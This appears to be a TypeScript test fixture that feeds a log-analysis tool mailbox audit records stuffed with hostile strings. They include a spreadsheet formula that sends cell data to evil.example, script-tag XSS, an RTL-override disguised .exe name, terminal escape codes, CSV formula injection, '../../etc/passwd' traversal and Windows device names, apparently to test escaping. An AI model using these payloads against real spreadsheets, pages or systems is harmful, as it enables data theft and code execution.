/** A world in which every text field of a log tries to act. NUL and lone surrogates are rejected by ingest; see text.test.ts. */
import { bind, cmdlet, type FindingSpec, guid, ordinary, sync } from '../scope/world.ts';

export const MEAN =
  '=HYPERLINK("https://evil.example/?"&A1,"x")</script><script>alert(1)</script>\u202Egnp.exe\u001b]0;owned\u0007\u001b[31m$& $1 \u2028\u2029@SUM(1+1)|cmd';
const FORMULAS = ['=1+1', '+1', '-1+cmd|x', '@SUM(A1)', '\tx', '\rx', ' =1+1', '\uff1d1+1'];

export const USER = `mean"user,<b>@contoso.example`;
export const token = guid('mean token');

export function hostileWorld(): {
  readonly records: readonly Record<string, unknown>[];
  readonly findings: readonly FindingSpec[];
} {
  const names = [...FORMULAS, MEAN, '../../etc/passwd', 'CON', 'a'.repeat(400)];
  const records = [
    ...ordinary(['anna@contoso.example', 'ben@contoso.example'], '2026-02-20', 9),
    ...names.map((name, index) =>
      bind({
        id: `m${index}`,
        user: USER,
        time: `2026-03-01T02:00:${String(index).padStart(2, '0')}`,
        address: '203.0.113.66',
        token,
        messages: [name, `<${index}@x>`],
        folder: name,
        client: name,
        app: name,
        session: name,
      }),
    ),
    sync({ id: 'sync', user: USER, time: '2026-03-01T03:00:00', address: '203.0.113.66', token, folder: MEAN }),
    cmdlet({
      id: 'rule',
      user: USER,
      time: '2026-03-01T03:10:00',
      operation: 'New-InboxRule',
      address: '203.0.113.66',
      parameters: { Name: MEAN, ForwardTo: MEAN, SubjectContainsWords: MEAN },
    }),
    bind({
      id: 'path',
      user: '../../../outside',
      time: '2026-03-01T04:00:00',
      address: '203.0.113.66',
      token,
      messages: ['<p@x>'],
    }),
    bind({
      id: 'device',
      user: 'nul',
      time: '2026-03-01T04:01:00',
      address: '203.0.113.66',
      token,
      messages: ['<d@x>'],
    }),
  ];
  const findings: readonly FindingSpec[] = [
    {
      id: 'f-mean',
      user: USER,
      firstSeen: '2026-03-01T02:00:00',
      events: ['m0', 'sync', 'rule'],
      anchors: [
        ['token', token],
        ['application', MEAN],
        ['destination', MEAN],
        ['session', MEAN],
        ['client', MEAN],
        ['known-good', `address 203.0.113.66: ${MEAN} (E. Weber)`],
      ],
    },
  ];
  return { records, findings };
}
